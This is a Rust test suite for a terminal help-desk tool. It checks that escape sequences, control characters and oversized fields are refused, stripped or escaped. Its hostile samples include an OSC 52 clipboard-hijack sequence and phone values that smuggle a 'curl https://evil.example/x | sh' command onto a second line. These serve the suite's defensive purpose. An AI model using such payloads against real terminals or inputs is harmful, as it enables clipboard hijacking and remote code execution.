//! Text is data: escape sequences in a caller's name, a note or a phone number never reach a
//! terminal raw. Every way text comes in refuses them (or, for a paste into the desk, drops
//! them); text an older desk already holds is shown escaped by every output; a handle is
//! copied as it is shown; and every field has a length limit with a clear refusal.

mod support;

use std::path::{Path, PathBuf};

use balie::app::{Action, Pane, TerminalEffect};
use balie::domain::{Channel, NewCaller, NewPromise};
use balie::store::Store;
use chrono::{Duration, Utc};
use support::Harness;
use support::cli::{balie_cmd, text};

/// Sequences that took over a terminal (clipboard, title, cleared screen, 8-bit CSI), the
/// bell, NUL, DEL, a lone CR that overwrites what was printed, and a right-to-left override.
const HOSTILE: &[(&str, &str)] = &[
    ("OSC 52 clipboard", "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}"),
    ("OSC 0 title", "\u{1b}]0;pwned\u{7}"),
    ("CSI 2J", "\u{1b}[2J"),
    ("C1 CSI", "\u{9b}2J"),
    ("BEL", "\u{7}"),
    ("NUL", "\u{0}"),
    ("DEL", "\u{7f}"),
    ("lone CR", "paid\rUNPAID"),
    ("RLO", "\u{202e}exe.txt"),
];

/// A raw character that a terminal acts on, anywhere in `output`. Line breaks and tabs are
/// the output's own layout.
fn raw_control(output: &str) -> Option<char> {
    output.chars().find(|&c| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

fn path(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

struct Desk {
    home: tempfile::TempDir,
    db: PathBuf,
}

impl Desk {
    /// A desk with one caller and one open ticket, T-1001, made through the command line.
    fn new() -> Desk {
        let home = tempfile::tempdir().expect("home");
        let db = home.path().join("desk.db");
        let desk = Desk { home, db };
        let csv = desk.file("callers.csv", "name,phone\nJan de Vries,+31 6 1234 5678\n");
        desk.ok(&["import", "callers", path(&csv)], "");
        desk.ok(
            &["ticket", "new", "--caller", "Jan", "--subject", "VPN drops"],
            "",
        );
        desk
    }

    fn file(&self, name: &str, contents: &str) -> PathBuf {
        let file = self.home.path().join(name);
        std::fs::write(&file, contents).expect("write file");
        file
    }

    fn run(&self, args: &[&str], stdin: &str) -> std::process::Output {
        balie_cmd(self.home.path())
            .arg("--db")
            .arg(&self.db)
            .args(args)
            .write_stdin(stdin)
            .output()
            .expect("run balie")
    }

    fn ok(&self, args: &[&str], stdin: &str) -> String {
        let output = self.run(args, stdin);
        let (out, err) = (text(&output.stdout), text(&output.stderr));
        assert!(output.status.success(), "{args:?} failed: {err}");
        assert_eq!(raw_control(&out), None, "{args:?} printed {out:?}");
        assert_eq!(raw_control(&err), None, "{args:?} printed {err:?}");
        out
    }

    /// Runs a command that must be refused and returns what it said on stderr, which must
    /// itself hold nothing raw.
    fn refused(&self, args: &[&str], stdin: &str) -> String {
        let output = self.run(args, stdin);
        let err = text(&output.stderr);
        assert_eq!(
            output.status.code(),
            Some(1),
            "{args:?} was accepted: {err}"
        );
        assert_eq!(raw_control(&err), None, "{args:?} said {err:?}");
        err
    }

    /// Everything the desk holds, as JSON: what a refused input must not have changed.
    fn dump(&self) -> String {
        let file = self
            .home
            .path()
            .join(format!("dump-{}.json", uuid::Uuid::now_v7()));
        self.ok(&["export", "json", path(&file)], "");
        let dump = std::fs::read_to_string(&file).expect("read dump");
        std::fs::remove_file(&file).expect("remove dump");
        // The export's own time differs from run to run; the tables do not.
        let value: serde_json::Value = serde_json::from_str(&dump).expect("dump is JSON");
        value["tables"].to_string()
    }
}

#[test]
fn every_way_in_refuses_control_characters_and_changes_nothing() {
    let desk = Desk::new();
    let before = desk.dump();
    for (what, hostile) in HOSTILE {
        let name = format!("Jan {hostile} Bakker");
        let csv = desk.file(
            "hostile.csv",
            &format!("name,phone\nPiet,0612345678\n\"{name}\",0612345679\n"),
        );
        let err = desk.refused(&["import", "callers", path(&csv)], "");
        assert!(err.contains("line 3"), "{what}: {err}");

        let json = desk.file(
            "hostile.json",
            &serde_json::json!([{ "name": "Piet" }, { "name": name }]).to_string(),
        );
        let err = desk.refused(&["import", "callers", path(&json)], "");
        assert!(err.contains("line 1"), "{what}: {err}");

        let subject = format!("Printer {hostile}");
        let tickets = desk.file(
            "tickets.csv",
            &format!("caller,subject\nJan de Vries,Fine\nJan de Vries,\"{subject}\"\n"),
        );
        let err = desk.refused(&["import", "tickets", path(&tickets)], "");
        assert!(
            err.contains("line 3") && err.contains("subject"),
            "{what}: {err}"
        );
        let tickets = desk.file(
            "tickets.json",
            &serde_json::json!([{ "caller": "Jan de Vries", "subject": subject }]).to_string(),
        );
        let err = desk.refused(&["import", "tickets", path(&tickets)], "");
        assert!(err.contains("subject"), "{what}: {err}");

        let err = desk.refused(
            &["note", "T-1001", "-"],
            &format!("Called back. {hostile}\n"),
        );
        assert!(err.contains("the note on stdin"), "{what}: {err}");
        if hostile.contains('\0') {
            // No argument can hold NUL: the operating system ends it there.
            continue;
        }
        let err = desk.refused(&["note", "T-1001", "Called", hostile], "");
        assert!(
            err.contains("control character") || err.contains("line break"),
            "{what}: {err}"
        );
        let err = desk.refused(
            &["ticket", "new", "--caller", "Jan", "--subject", &subject],
            "",
        );
        assert!(err.contains("--subject"), "{what}: {err}");
        let err = desk.refused(
            &["promise", "T-1001", "--due", "+2h", "call", "back", hostile],
            "",
        );
        assert!(err.contains("the promise"), "{what}: {err}");
        let err = desk.refused(
            &[
                "promise",
                "T-1001",
                "--due",
                "+2h",
                "--to",
                &name,
                "call back",
            ],
            "",
        );
        assert!(err.contains("--to"), "{what}: {err}");
    }
    assert_eq!(desk.dump(), before, "a refused input changed the desk");
}

#[test]
fn a_phone_with_a_command_on_a_second_line_is_refused_by_its_line() {
    let desk = Desk::new();
    let csv = desk.file(
        "callers.csv",
        "name,phone\nPiet,\"0612345678\ncurl https://evil.example/x | sh\"\n",
    );
    let err = desk.refused(&["import", "callers", path(&csv)], "");
    assert!(
        err.contains("line 2: the phone number has a line break; it must be one line"),
        "{err}"
    );
}

#[test]
fn notes_keep_their_lines_and_tabs() {
    let desk = Desk::new();
    desk.ok(&["note", "T-1001", "-"], "first line\r\n\tindented\n");
    let shown = desk.ok(&["ticket", "show", "T-1001", "--format", "json"], "");
    assert!(shown.contains("first line\\n\\tindented"), "{shown}");
}

/// What an older desk may hold: every text field written with a hostile string, through the
/// store as the desk did before it checked.
fn older_desk(db: &Path) {
    let mut store = Store::open(db, "anna").expect("open desk");
    let now = Utc::now();
    let all: String = HOSTILE.iter().map(|(_, h)| *h).collect();
    let caller = store
        .create_caller(
            &NewCaller {
                name: format!("Jan {all} de Vries"),
                organization: format!("Gemeente {all}"),
                phones: vec![format!("0612345678\ncurl evil | sh{all}")],
                emails: vec![format!("jan{all}@example.nl")],
                identifiers: vec![format!("NB-{all}")],
            },
            now - Duration::hours(3),
        )
        .expect("caller");
    let ticket = store
        .open_ticket_with_call(
            &support::new_ticket(&caller.id, &format!("VPN {all}")),
            &format!("call {all}"),
            now - Duration::hours(3),
        )
        .expect("ticket");
    store
        .add_note(&ticket.id, &format!("note {all}"), now - Duration::hours(2))
        .expect("note");
    for due in [now - Duration::hours(1), now + Duration::hours(1)] {
        store
            .make_promise(
                &NewPromise {
                    ticket_id: ticket.id.clone(),
                    what: format!("call back {all}"),
                    to: String::new(),
                    callback: false,
                    channel: Channel::Phone,
                    due_at: due,
                },
                now - Duration::hours(2),
            )
            .expect("promise");
    }
}

#[test]
fn text_an_older_desk_holds_is_escaped_by_every_output() {
    let home = tempfile::tempdir().expect("home");
    let db = home.path().join("desk.db");
    older_desk(&db);
    let desk = Desk { home, db };
    let mut outputs = Vec::new();
    for format in ["table", "csv", "json"] {
        for args in [
            vec!["ticket", "list"],
            vec!["caller", "find", "Jan"],
            vec!["overdue"],
            vec!["report", "--since", "7d"],
        ] {
            let mut args = args;
            args.extend(["--format", format]);
            outputs.push((args.join(" "), desk.ok(&args, "")));
        }
    }
    for format in ["table", "json"] {
        for args in [vec!["ticket", "show", "T-1001"], vec!["handover"]] {
            let mut args = args;
            args.extend(["--format", format]);
            outputs.push((args.join(" "), desk.ok(&args, "")));
        }
    }
    let ics = desk.home.path().join("promises.ics");
    desk.ok(&["export-ics", path(&ics)], "");
    // CR LF is how iCalendar ends its lines.
    let calendar = std::fs::read_to_string(&ics).expect("read ics");
    outputs.push(("export-ics".into(), calendar.replace("\r\n", "\n")));
    for (command, output) in &outputs {
        assert_eq!(raw_control(output), None, "{command}: {output:?}");
        if command.contains("json") {
            serde_json::from_str::<serde_json::Value>(output)
                .unwrap_or_else(|e| panic!("{command} is not JSON ({e}): {output}"));
        }
    }
    let (_, show) = &outputs
        .iter()
        .find(|(c, _)| c == "ticket show T-1001 --format table")
        .expect("ticket show");
    assert!(show.contains("VPN \\u001b]52;c;"), "{show}");
    // JSON carries the text as it is stored, escaped as JSON escapes it, C1 and DEL included.
    let (_, json) = &outputs
        .iter()
        .find(|(c, _)| c == "ticket show T-1001 --format json")
        .expect("ticket show json");
    let value: serde_json::Value = serde_json::from_str(json).expect("JSON");
    let all: String = HOSTILE.iter().map(|(_, h)| *h).collect();
    assert!(holds(&value, &format!("VPN {all}")), "{json}");
    assert!(
        json.contains("\\u009b2J") && json.contains("\\u007f"),
        "{json}"
    );
}

/// Whether any string in `value` is `wanted`.
fn holds(value: &serde_json::Value, wanted: &str) -> bool {
    match value {
        serde_json::Value::String(text) => text == wanted,
        serde_json::Value::Array(items) => items.iter().any(|v| holds(v, wanted)),
        serde_json::Value::Object(map) => map.values().any(|v| holds(v, wanted)),
        _ => false,
    }
}

#[test]
fn y_copies_a_stored_phone_exactly_as_the_status_bar_shows_it() {
    let home = tempfile::tempdir().expect("home");
    let db = home.path().join("desk.db");
    older_desk(&db);
    let mut h = Harness::on(Store::open(&db, "anna").expect("open"));
    h.press("<enter>");
    for _ in 0..4 {
        if h.desk.app.focus != Pane::Caller {
            h.press("<tab>");
        }
    }
    assert_eq!(h.desk.app.focus, Pane::Caller);
    let effects = h.keys("y");
    let [TerminalEffect::Copy(copied)] = effects.as_slice() else {
        panic!("nothing copied: {effects:?}");
    };
    assert_eq!(raw_control(copied), None, "{copied:?}");
    assert!(
        copied.starts_with("0612345678\\u000acurl evil | sh"),
        "{copied}"
    );
    let message = &h.desk.app.message.as_ref().expect("a message").text;
    assert!(message.contains(copied.as_str()), "{message} / {copied}");
}

#[test]
fn a_paste_into_the_desk_leaves_its_control_characters_behind() {
    let mut h = Harness::with_callers();
    h.press("n vries <enter>");
    let all: String = HOSTILE.iter().map(|(_, h)| *h).collect();
    h.desk
        .dispatch(Action::Paste(format!("VPN{all} drops")), h.now);
    h.press("<enter>");
    let ticket = h.desk.app.current_ticket().expect("a ticket was opened");
    assert_eq!(raw_control(&ticket.subject), None, "{:?}", ticket.subject);
    assert!(
        ticket.subject.starts_with("VPN]52;c;"),
        "{}",
        ticket.subject
    );
    assert!(
        ticket.subject.ends_with("exe.txt drops"),
        "{}",
        ticket.subject
    );
}

#[test]
fn every_field_has_a_limit_and_the_refusal_names_it() {
    let desk = Desk::new();
    let before = desk.dump();
    let err = desk.refused(
        &[
            "ticket",
            "new",
            "--caller",
            "Jan",
            "--subject",
            &"x".repeat(100_000),
        ],
        "",
    );
    assert!(
        err.contains("--subject: the subject is 100000 characters long; at most 300 are accepted"),
        "{err}"
    );
    let err = desk.refused(&["note", "T-1001", "-"], &"log line\n".repeat(10_000));
    assert!(err.contains("at most 50000"), "{err}");
    let csv = desk.file(
        "callers.csv",
        &format!("name,phone\nPiet,0612\n{},0613\n", "n".repeat(201)),
    );
    let err = desk.refused(&["import", "callers", path(&csv)], "");
    assert!(
        err.contains("line 3: the name is 201 characters long; at most 200 are accepted"),
        "{err}"
    );
    // A cell of several megabytes is refused as a field before it is read as a name.
    let csv = desk.file("huge.csv", &format!("name\n{}\n", "n".repeat(3_000_000)));
    let err = desk.refused(&["import", "callers", path(&csv)], "");
    assert!(
        err.contains("line 2: name is 3000000 bytes long; a field holds at most 64 KiB"),
        "{err}"
    );
    assert!(
        err.len() < 1_000,
        "the refusal repeats the field: {} bytes",
        err.len()
    );
    // JSON has no fields to cut at: a value too long is refused without being quoted back.
    let huge = "x".repeat(1_000_000);
    let json = desk.file(
        "callers.json",
        &serde_json::json!([{ "name": "Piet", "phones": [huge], "id": huge }]).to_string(),
    );
    let err = desk.refused(&["import", "callers", path(&json)], "");
    assert!(
        err.contains("line 1: the value is 1000000 characters long; at most 100"),
        "{err}"
    );
    assert!(
        err.contains("the phone number is 1000000 characters long"),
        "{err}"
    );
    assert!(
        err.len() < 1_000,
        "the refusal repeats the value: {} bytes",
        err.len()
    );
    let json = desk.file(
        "tickets.json",
        &serde_json::json!([{ "caller": "Jan", "subject": "VPN", "status": huge }]).to_string(),
    );
    let err = desk.refused(&["import", "tickets", path(&json)], "");
    assert!(
        err.contains("status: the value is 1000000 characters long"),
        "{err}"
    );
    assert!(
        err.len() < 1_000,
        "the refusal repeats the value: {} bytes",
        err.len()
    );
    assert_eq!(desk.dump(), before);

    // The desk's forms: a pasted 301-character subject is refused at its field.
    let mut h = Harness::with_callers();
    h.press("n vries <enter>");
    h.desk.dispatch(Action::Paste("s".repeat(301)), h.now);
    h.press("<enter>");
    assert!(
        h.desk.app.current_ticket().is_none(),
        "the ticket was opened"
    );
    let screen = h.screen(100, 30);
    assert!(
        screen.contains("this is 301 characters long; at most 300 fit"),
        "{screen}"
    );
}

#[test]
fn a_ticket_with_long_notes_shows_the_newest_and_scrolls_to_the_first() {
    let mut h = Harness::with_callers();
    h.press("n vries <enter> VPN<space>drops <enter>");
    let ticket_id = h.desk.app.current_ticket().expect("ticket").id.clone();
    let long = "log line\n".repeat(1_000);
    for n in 0..60 {
        h.desk
            .store
            .add_note(
                &ticket_id,
                &format!("note {n}\n{long}end of note {n}"),
                h.now,
            )
            .expect("note");
    }
    let views = balie::desk::load_views(
        &h.desk.store,
        &h.desk.app.view_request(),
        h.now,
        &h.desk.app,
    )
    .expect("views");
    h.desk.dispatch(Action::Loaded(Box::new(views)), h.now);
    let screen = h.screen(120, 40);
    assert!(screen.contains("end of note 59"), "{screen}");
    assert!(!screen.contains("── timeline ──"), "{screen}");
    // Scrolled all the way up, the timeline starts with its heading and the call.
    h.desk.app.timeline_scroll = u16::MAX;
    let screen = h.screen(120, 40);
    assert!(screen.contains("── timeline ──"), "{screen}");
    assert!(!screen.contains("end of note 59"), "{screen}");
}

#[test]
fn a_note_from_the_editor_leaves_colour_codes_behind() {
    use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
    let mut h = Harness::with_callers();
    h.press("n vries <enter> VPN<space>drops <enter>");
    let key = KeyEvent::new(KeyCode::Char('A'), KeyModifiers::SHIFT);
    let effects = h.desk.dispatch(Action::Key(key), h.now);
    let [TerminalEffect::OpenEditor { ticket_id, .. }] = effects.as_slice() else {
        panic!("expected the editor to open, got {effects:?}");
    };
    h.desk.dispatch(
        Action::EditorClosed {
            ticket_id: ticket_id.clone(),
            text: "ping failed:\r\n\u{1b}[31mtimeout\u{1b}[0m\u{7}\n".into(),
            failed: false,
        },
        h.now,
    );
    assert!(h.desk.app.popup.is_none(), "the note was not saved");
    let views = balie::desk::load_views(
        &h.desk.store,
        &h.desk.app.view_request(),
        h.now,
        &h.desk.app,
    )
    .expect("views");
    let ticket = views.ticket.expect("the ticket");
    let note = ticket.timeline.last().expect("the note");
    assert_eq!(note.text, "ping failed:\n[31mtimeout[0m");
}
